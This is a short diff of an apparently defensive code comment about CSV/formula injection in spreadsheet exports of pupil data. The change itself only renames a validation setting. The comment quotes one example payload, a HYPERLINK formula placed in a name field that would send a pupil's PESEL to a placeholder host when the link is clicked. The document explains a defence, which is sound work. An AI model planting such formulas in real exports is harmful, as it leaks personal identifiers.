@@ -2,7 +2,7 @@
 
 A spreadsheet program runs a cell that starts with "=" (and, in CSV, "+", "-", "@", tab or CR) as a
 formula: a pupil named `=HYPERLINK("http://x/?p="&C4,"Anna")` would send the PESEL in C4 to
-whoever clicks. Names are validated at entry (`tenants.names`), but values stored before that
+whoever clicks. Names are validated at entry (`tenants.pupils.names`), but values stored before that
 rule, settings and organisation names still reach exports, so the writers here neutralise every
 text cell (OWASP, "CSV injection"):
 
